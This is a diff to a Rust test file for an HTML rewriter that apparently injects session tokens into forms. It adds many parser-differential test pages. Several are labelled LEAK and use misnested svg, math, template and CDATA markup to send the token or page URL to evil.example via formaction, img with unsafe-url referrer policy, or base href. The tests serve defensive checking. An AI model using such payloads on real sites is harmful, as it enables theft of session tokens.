@@ -304,12 +304,6 @@ fn oracle_rejects_what_the_conventions_forbid() {
             "<form><input type=hidden name=sessionid value={T}></form>",
             "form id missing",
         ),
-        // Rule 4.
-        (
-            "<select><form action=/f></form></select>",
-            "<select><form id={ID1} action=//www.example.com/f><input type=hidden name=sessionid value={T} form={ID1}></form></select>",
-            "hidden input in a form inside a select",
-        ),
         // Rule 6: the token must not go to what is another host on an https page.
         (
             "<a href=http:x>a</a>",
@@ -478,6 +472,43 @@ fn hard_cases_match_the_oracle() {
             "<select><input type=submit><math></select><xmp><meta name=referrer content=unsafe-url>"),
         ("a template inside a template's table: its forms are created again",
             "<template><table><template><form action=/f></form></template></table></template>"),
+        ("LEAK: </foreignObject> of an HTML foreignobject closes math for the parser only",
+            "<foreignObject><math></foreignObject><form id=f1 action=/p></form><input type=submit form=f1 formaction=//evil.example/x>"),
+        ("LEAK: </annotation-xml> of an HTML annotation-xml closes svg for the parser only",
+            "<annotation-xml encoding=\"text/html\"><svg></annotation-xml><![CDATA[<p><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
+        ("LEAK: </select> closes svg for the parser only: a noscript is raw text",
+            "<select><svg></select><noscript><p><a href=/x></noscript>"),
+        ("<a href> without a value writes its URL: a later base is late",
+            "<a href>x</a><base href=/b/><a href=y>y</a>"),
+        ("LEAK: </template> closes an svg title for the parser, not for the rewriter: CDATA is a bogus comment",
+            "<template><svg><title></template><![CDATA[><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
+        ("formaction after a neutralised http: base", "<form action=f><base href=http:><input type=image formaction=f>"),
+        ("form in a table in a select", "<select><table><input type=submit><form action=/f></form>"),
+        // Variants of the end-tag walk (HTML standard: foreign content "any other end tag", then
+        // "in body"); each once sent the token or the page's URL where it must not go, or would.
+        ("an unknown HTML element closes math from inside it",
+            "<x-el><math></x-el><![CDATA[><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
+        ("a special element between stops the walk: </foreignObject> is ignored",
+            "<foreignObject><div><math></foreignObject><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("</template> pops an HTML element opened in it: </div> after it closes no svg",
+            "<template><div></template><svg></div><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("<a> in an integration point takes the outer <a> off the stack: </a> closes no svg",
+            "<a href=/x><math><mi><a href=/y></a></mi></math><svg></a><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("a template is a scope boundary: </a> closes no svg in it",
+            "<a href=/x><template><svg></a><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("</table> closes svg foster-parented in it",
+            "<table><svg></table><![CDATA[><img src=https://evil.example/i referrerpolicy=unsafe-url>"),
+        ("<table> in a table closes it: its </table> closes no svg",
+            "<table><table></table><svg></table><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("an end tag in a select is dropped: </a> closes no math",
+            "<a href=/x><select><math></a><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("<input> closed the select: its </select> closes no math",
+            "<select><input><math></select><style><img src=https://evil.example/i referrerpolicy=unsafe-url></style>"),
+        ("a textarea keeps the select open", "<select><textarea></textarea><form><button>b</button>"),
+        ("a form in a cell of a table in a template is created",
+            "<template><table><td><form action=/f></form></td></table></template>"),
+        ("forms nest in a template: after the inner </form> the outer is the token form",
+            "<template><form><form></form><button formaction=/x>b</button></form></template>"),
         ("LEAK: a whitespace-only action is the base URL, not the document's",
             "<base href=https://evil.example/><form action=\" \"><input name=q></form>"),
     ];
@@ -875,15 +906,15 @@ fn debian_manual_pages_match_the_oracle() {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]
+    // `PROPTEST_CASES` raises the count (the explicit 1000 would otherwise win over it).
+    #![proptest_config(ProptestConfig {
+        cases: std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1000),
+        ..ProptestConfig::default()
+    })]
 
-    // Left out of `make test` for now: generated pages still find structural differences the
-    // oracle does not yet tell apart from real ones (variants of the parser reconstructing
-    // misnested formatting elements around the hidden input, README "Known limits"). Run it
-    // with `cargo test --test rewrite_differential -- --ignored generated`; `make fuzz` runs the
-    // same oracle on the `differential` target.
+    // Part of `make test`; `make fuzz` runs the same oracle on the `differential` target. Run
+    // more cases with `PROPTEST_CASES=5000 cargo test --test rewrite_differential generated`.
     #[test]
-    #[ignore = "known structural differences remain; see the comment above"]
     fn generated_pages_match_the_oracle(input in page(), size in 1usize..40) {
         let setup = setup();
         let whole = rewrite(&setup, &input);
